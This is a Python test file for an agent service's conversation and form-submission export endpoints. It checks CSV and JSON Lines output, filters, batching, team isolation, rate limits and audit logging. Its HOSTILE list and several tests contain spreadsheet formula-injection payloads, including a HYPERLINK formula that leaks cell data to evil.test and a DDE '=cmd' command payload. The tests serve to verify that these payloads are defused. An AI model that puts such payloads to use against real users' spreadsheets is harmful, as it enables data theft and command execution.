"""GET /conversations/export and /form-submissions/export: CSV and JSON Lines streamed in
batches, the lists' filters, formulas defused, team isolation and bad values."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import orjson
import pytest

from agentsvc.api import app_keys
from tests.support.accounts import bearer, new_api_key
from tests.support.chat import chat, get_conversation, new_agent, new_tool, user
from tests.support.errors import assert_error

PROMPT = "Refunds are paid within five days. Parcels ship worldwide."
FORM = {"fields": [{"name": "email", "label": "E-mail", "type": "email"},
                   {"name": "note", "label": "Note", "type": "text"}]}  # fmt: skip


async def talk(client, auth, agent_id: str, *texts: str, **extra) -> str:
    stream = await chat(client, {"agentId": agent_id, "messages": user(texts[0]), **extra}, auth)
    conv_id = stream.start["conversationId"]
    for text in texts[1:]:
        await chat(
            client, {"agentId": agent_id, "conversationId": conv_id, "messages": user(text)}, auth
        )
    return conv_id


async def download(client, auth, path: str, status: int = 200):
    resp = await client.get(path, headers=auth)
    assert resp.status == status, await resp.text()
    return resp, await resp.read()


def csv_rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode())))


# Cells a visitor can write that a spreadsheet would run as formulas unless defused. (A NUL
# is refused at the door, see test_a_nul_character_is_refused_on_every_backend; a NUL
# stored earlier is dropped as these control characters are, see the encoder's test.)
HOSTILE = [
    '\x08=HYPERLINK("http://evil.test/?d="&A1,"Open")', "=1+1", " =1+1",
    "   =cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "+1+1", "-1+1", "@SUM(1,1)",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\x01\x02=1+1", "\x1f =1+1",
    "\x0b=1+1", "\u00a0=1+1", "\u3000=1+1", "\x1b\x07 \x1b=2*3",
]  # fmt: skip
# UTF-8, formulas evaluated, leading and trailing spaces removed, special numbers detected:
# the import settings under which the most cells could turn into formulas.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,,true"
ODF_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


async def libreoffice_cells(csv_file: Path) -> list[tuple[str | None, str]]:
    """Every cell of the CSV as LibreOffice Calc reads it: (its formula or None, its text)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        where = "in CI" if os.environ.get("CI") == "true" else "locally"
        hint = "apt-get install -y libreoffice-calc-nogui (scripts/test.sh does)"
        pytest.fail(f"soffice is missing {where}: {hint}", pytrace=False)
    out = csv_file.parent / "converted"
    proc = await asyncio.create_subprocess_exec(
        soffice,
        f"-env:UserInstallation={(csv_file.parent / 'profile').as_uri()}",
        "--headless",
        f"--infilter={CSV_IMPORT}",
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        str(csv_file),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    log, _ = await asyncio.wait_for(proc.communicate(), 120)
    converted = out / (csv_file.stem + ".fods")
    assert proc.returncode == 0 and converted.exists(), log.decode(errors="replace")
    tree = ElementTree.parse(converted)  # noqa: S314 - written by LibreOffice just now
    return [
        (
            cell.get(f"{{{ODF_TABLE}}}formula"),
            "\n".join(_odf_text(p) for p in cell.iter(f"{{{ODF_TEXT}}}p")),
        )
        for cell in tree.iter(f"{{{ODF_TABLE}}}table-cell")
    ]


def _odf_text(element: ElementTree.Element) -> str:
    """A paragraph's text, with ODF's spaces (`text:s`) and tabs spelled out."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == f"{{{ODF_TEXT}}}s":
            parts.append(" " * int(child.get(f"{{{ODF_TEXT}}}c", "1")))
        elif child.tag == f"{{{ODF_TEXT}}}tab":
            parts.append("\t")
        else:
            parts.append(_odf_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


async def test_conversations_export_as_csv_one_row_per_message(client, auth):
    agent = await new_agent(client, auth, name="Support Bot", systemPrompt=PROMPT)
    first = await talk(client, auth, agent["id"], '=HYPERLINK("http://evil")', user={"id": "u-1"})
    second = await talk(client, auth, agent["id"], 'He said "hi", then\nleft', "@SUM(1+1)")
    conv = await get_conversation(client, auth, first)
    answer = next(m for m in conv["messages"] if m["role"] == "assistant")
    await client.post(
        f"/api/v1/conversations/{first}/feedback",
        json={"messageId": answer["id"], "rating": "down"},
        headers=auth,
    )
    resp, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=csv"
    )
    assert resp.content_type == "text/csv"
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="conversations-support-bot.csv"'
    )
    assert resp.headers["Cache-Control"] == "no-store"
    assert "X-RateLimit-Limit" in resp.headers
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") >= 7
    rows = csv_rows(raw)
    assert [r["conversationId"] for r in rows] == [second] * 4 + [first] * 2  # newest first
    assert [r["role"] for r in rows[:4]] == ["user", "assistant", "user", "assistant"]
    assert rows[0]["content"] == 'He said "hi", then\nleft'
    assert rows[2]["content"] == "'@SUM(1+1)"  # defused, as the dashboard did
    assert rows[4]["content"] == '\'=HYPERLINK("http://evil")'
    assert rows[4]["title"].startswith("'=HYPERLINK")  # every cell, titles too
    assert rows[5]["rating"] == "down" and rows[5]["author"] == "ai"
    assert rows[4]["userId"] == "u-1" and rows[4]["userVerified"] == "true"
    assert rows[0]["userId"] == "" and rows[0]["rating"] == ""
    assert rows[5]["unanswered"] in ("true", "false")
    assert list(rows[0]) == [
        "conversationId", "title", "userId", "userEmail", "userName", "userVerified", "status",
        "triggerId", "channel", "channelId", "conversationCreatedAt", "conversationInputTokens",
        "conversationOutputTokens", "conversationCost", "currency", "messageId", "role",
        "author", "authorName",
        "content", "rating", "unanswered", "agentVersion", "sources", "messageStatus",
        "messageCreatedAt",
    ]  # fmt: skip
    assert rows[5]["agentVersion"] == "1" and rows[0]["agentVersion"] == ""


async def test_exports_never_carry_a_live_formula(client, auth, tmp_path):
    """Issue 29 item 4: 20 hostile cells, exported as CSV and opened by LibreOffice Calc."""
    agent = await new_agent(client, auth, systemPrompt=PROMPT)
    for text in HOSTILE:  # each one a new conversation: its title is hostile too
        await talk(client, auth, agent["id"], text)
    _, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=csv"
    )
    contents = [r["content"] for r in csv_rows(raw) if r["role"] == "user"]
    assert len(contents) == len(HOSTILE)
    assert all(c.startswith("'") for c in contents), contents
    assert not any(ord(ch) < 32 and ch not in "\t\r\n" for ch in raw.decode())
    export = tmp_path / "conversations.csv"
    export.write_bytes(raw)
    cells = await libreoffice_cells(export)
    assert [(f, text) for f, text in cells if f is not None] == []
    # LibreOffice read every cell, and shows each as the text it was sent (a CR as a line).
    texts = {text for _, text in cells}
    missing = [c for c in contents if c.replace("\r\n", "\n").replace("\r", "\n") not in texts]
    assert missing == []


async def test_a_nul_character_is_refused_on_every_backend(client, auth):
    """`"\\u0000=HYPERLINK(...)"` never reaches the database (PostgreSQL cannot store it:
    it was a 500 there): a 400 naming the field, for a visitor's chat and a form alike."""
    agent = await new_agent(client, auth)
    body = {"agentId": agent["id"], "messages": user('\x00=HYPERLINK("http://evil.test")')}
    resp = await client.post("/api/v1/chat", json=body)
    await assert_error(resp, 400, "VALIDATION_ERROR", "messages.0.content: must not contain")
    resp = await client.post(
        "/api/v1/form-submissions/submit",
        json={"toolId": "tool_x", "formData": {"note\x00": "hi"}},
    )
    await assert_error(resp, 400, "VALIDATION_ERROR", "formData: must not contain the NUL")
    # An escaped backslash before `u0000` is no NUL: the text goes through.
    body["messages"] = user("C:\\u0000")
    assert (await chat(client, body)).names[-1] == "message_stop"


async def test_conversations_export_as_jsonl_with_the_lists_filters(client, auth):
    agent = await new_agent(client, auth, systemPrompt=PROMPT)
    refund = await talk(client, auth, agent["id"], "refund please")
    await talk(client, auth, agent["id"], "hello there")
    resp, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=jsonl&q=refunds"
    )
    assert resp.content_type == "application/x-ndjson"
    assert resp.headers["Content-Disposition"].endswith('.jsonl"')
    lines = [orjson.loads(line) for line in raw.splitlines()]
    assert [x["conversationId"] for x in lines] == [refund, refund]
    assert lines[0]["content"] == "refund please" and lines[0]["rating"] is None
    assert lines[0]["userVerified"] is None and isinstance(lines[1]["unanswered"], bool)
    # A search with nothing to look for, and a filter nothing passes: empty downloads.
    _, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=jsonl&q=the"
    )
    assert raw == b""
    _, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&rating=up"
    )
    assert csv_rows(raw) == [] and raw.startswith(b"conversationId,title,")


async def test_exports_read_in_batches_and_long_conversations_in_parts(make_client):
    client = await make_client(exports={"batch_rows": 10})
    auth = bearer(await new_api_key(client))
    agent = await new_agent(client, auth, systemPrompt=PROMPT)
    long = await talk(client, auth, agent["id"], *[f"question {n}" for n in range(8)])  # 16
    short = [await talk(client, auth, agent["id"], f"hello {n}") for n in range(7)]
    _, raw = await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=jsonl"
    )
    lines = [orjson.loads(line) for line in raw.splitlines()]
    assert len(lines) == 16 + 7 * 2
    expected = []
    for conv_id in [*reversed(short), long]:
        conv = await get_conversation(client, auth, conv_id)
        expected += [(conv_id, m["id"]) for m in conv["messages"]]
    assert [(x["conversationId"], x["messageId"]) for x in lines] == expected


async def test_form_submissions_export(client, auth):
    agent = await new_agent(client, auth, name="Shop")
    tool = await new_tool(
        client,
        auth,
        agent["id"],
        "contact",
        executionType="form",
        formSchema=FORM,
        formExecutionMode="client",
        formClientHandler="save",
    )
    for email, note in (("a@example.com", "=cmd|' /C calc'!A0"), ("b@example.com", "hi, there")):
        resp = await client.post(
            "/api/v1/form-submissions/submit",
            json={
                "toolId": tool["id"],
                "formData": {"email": email, "note": note},
                "fieldsCompleted": ["email", "note"],
            },
        )
        assert resp.status == 200, await resp.text()
    resp, raw = await download(
        client, auth, f"/api/v1/form-submissions/export?agentId={agent['id']}"
    )
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="form-submissions-shop.csv"'
    )
    rows = csv_rows(raw)
    assert [r["formData.email"] for r in rows] == ["b@example.com", "a@example.com"]
    assert rows[1]["formData.note"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["formData.note"] == "hi, there"
    assert orjson.loads(rows[0]["formData"]) == {"email": "b@example.com", "note": "hi, there"}
    assert rows[0]["status"] == "submitted" and rows[0]["toolName"] == "contact"
    _, raw = await download(
        client,
        auth,
        f"/api/v1/form-submissions/export?agentId={agent['id']}&format=jsonl&status=submitted"
        f"&toolId={tool['id']}",
    )
    lines = [orjson.loads(line) for line in raw.splitlines()]
    assert [x["formData"]["email"] for x in lines] == ["b@example.com", "a@example.com"]
    assert "formData.email" not in lines[0]
    _, raw = await download(
        client, auth, f"/api/v1/form-submissions/export?agentId={agent['id']}&status=failed"
    )
    assert csv_rows(raw) == []


async def test_bad_export_requests_are_refused_before_anything_is_sent(client, auth):
    agent = await new_agent(client, auth)
    other = bearer(await new_api_key(client, "other@example.com"))
    theirs = await new_agent(client, other)
    for base in ("/api/v1/conversations/export", "/api/v1/form-submissions/export"):
        resp = await client.get(f"{base}?agentId={agent['id']}&format=xlsx", headers=auth)
        await assert_error(resp, 400, "VALIDATION_ERROR", "query.format")
        resp = await client.get(base, headers=auth)
        await assert_error(resp, 400, "VALIDATION_ERROR", "query.agentId")
        for who in (auth, other):
            target = theirs if who is auth else agent
            resp = await client.get(f"{base}?agentId={target['id']}", headers=who)
            await assert_error(resp, 404, "NOT_FOUND")
        resp = await client.get(f"{base}?agentId={agent['id']}")
        await assert_error(resp, 401, "UNAUTHORIZED")
    base = f"/api/v1/conversations/export?agentId={agent['id']}"
    for suffix, named in (
        ("&from=2026-13-01", "query.from"),
        ("&from=2026-03-02&to=2026-03-01", "from: must not be after to"),
        ("&q=" + quote("x" * 501), "query.q"),
        ("&rating=sideways", "query.rating"),
    ):
        resp = await client.get(base + suffix, headers=auth)
        await assert_error(resp, 400, "VALIDATION_ERROR", named)
    resp = await client.get(
        f"/api/v1/form-submissions/export?agentId={agent['id']}&status=lost", headers=auth
    )
    await assert_error(resp, 400, "VALIDATION_ERROR", "query.status")


async def test_a_team_runs_a_limited_number_of_exports_at_once(make_client):
    client = await make_client(exports={"max_per_team": 1})
    auth = bearer(await new_api_key(client))
    agent = await new_agent(client, auth)
    limiter = client.app[app_keys.limiter_key]
    # Hold the team's only slot as a running export would.
    session = await client.get("/api/v1/auth/session", headers=auth)
    team_id = (await session.json())["data"]["team"]["id"]
    assert await limiter.hold(f"exports:{team_id}", 1)
    try:
        resp = await client.get(f"/api/v1/conversations/export?agentId={agent['id']}", headers=auth)
        await assert_error(resp, 429, "RATE_LIMITED", "exports")
        assert resp.headers["Retry-After"] == "5"
    finally:
        await limiter.release(f"exports:{team_id}")
    # Slots come back after each export, finished or not.
    for _ in range(3):
        await download(client, auth, f"/api/v1/conversations/export?agentId={agent['id']}")
    resp = await client.get(f"/api/v1/form-submissions/export?agentId={agent['id']}", headers=auth)
    resp.close()  # the client goes away at once
    await asyncio.sleep(0.05)
    await download(client, auth, f"/api/v1/form-submissions/export?agentId={agent['id']}")


def test_the_csv_encoder_writes_what_the_csv_module_would():
    """Hand-written CSV, checked against Python's csv module on awkward values (after the
    same defusing), and read back by it."""
    from agentsvc.services.exports.formats import CsvEncoder, csv_cell

    columns = ["id", "text", "flag", "data", "number"]
    values = [
        'plain', 'a "quoted" word', "comma, here", "line\nbreak", "carriage\rreturn",
        "crlf\r\nend", "=1+1", "+49 30", "-minus", "@user", "\ttab", "", "ünïcödé 東京 🙂",
        '"', ",", "'quote first", " spaced ", "trailing,",
        "\x00=HYPERLINK(\"http://evil\")", " =1+1", "\u3000\uff1d1", "\uff0b1", "\uff0d1",
        "\uff20a", "\n@a", "\x1b[0m", "a\x7fb\x01c", "\x0b\x0c-1", "\u2212 1",
    ]  # fmt: skip
    rows = [
        {"id": f"id_{n}", "text": v, "flag": n % 2 == 0, "data": {"k": v}, "number": -n}
        for n, v in enumerate(values)
    ] + [{"id": "id_x", "text": None, "flag": None, "data": None, "number": None}]
    encoded = CsvEncoder(columns, plain={"id"}).rows(rows)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(
        [[row["id"] or ""] + [csv_cell(row[c]) for c in columns[1:]] for row in rows]
    )
    assert encoded == buffer.getvalue().encode()
    back = list(csv.reader(io.StringIO(encoded.decode(), newline="")))
    plain = len(values) - 11
    assert [r[1] for r in back[:plain]] == [
        ("'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v) for v in values[:plain]
    ]
    assert [r[1] for r in back[plain:-1]] == [
        "'=HYPERLINK(\"http://evil\")", "' =1+1", "'\u3000\uff1d1", "'\uff0b1", "'\uff0d1",
        "'\uff20a", "'\n@a", "[0m", "a\x7fbc", "'-1", "\u2212 1",
    ]  # fmt: skip
    assert back[0][2:] == ["true", '{"k":"plain"}', "0"] and back[1][4] == "-1"  # numbers kept
    assert back[-1] == ["id_x", "", "", "", ""]


async def test_the_export_paths_are_their_own_resources(client, auth):
    """`/conversations/export` is never taken for a conversation id: other methods are told
    the download's own `Allow`."""
    for path in ("/api/v1/conversations/export", "/api/v1/form-submissions/export"):
        resp = await client.delete(path, headers=auth)
        await assert_error(resp, 405, "METHOD_NOT_ALLOWED")
        assert resp.headers["Allow"] == "GET"
    resp = await client.delete("/api/v1/conversations/conv_missing", headers=auth)
    await assert_error(resp, 404, "NOT_FOUND", "Conversation not found")


async def test_exports_are_in_the_audit_log_without_their_filters_values(client, auth):
    agent = await new_agent(client, auth, name="Support Bot", systemPrompt=PROMPT)
    await talk(client, auth, agent["id"], "Refunds?", user={"id": "erin-42"})
    await download(
        client,
        auth,
        f"/api/v1/conversations/export?agentId={agent['id']}&format=jsonl&userId=erin-42&q=refunds",
    )
    await download(client, auth, f"/api/v1/form-submissions/export?agentId={agent['id']}")
    # A refused export (bad format) records nothing.
    await download(
        client, auth, f"/api/v1/conversations/export?agentId={agent['id']}&format=xml", 400
    )
    resp = await client.get("/api/v1/audit-log", headers=auth)
    entries = [e for e in (await resp.json())["data"] if e["action"].endswith(".exported")]
    assert [(e["action"], e["target"]["id"], e["details"]) for e in entries] == [
        ("form_submissions.exported", agent["id"], {"format": "csv", "filters": []}),
        ("conversations.exported", agent["id"], {"format": "jsonl", "filters": ["q", "userId"]}),
    ]
    assert "erin-42" not in str(entries) and "refunds" not in str(entries)
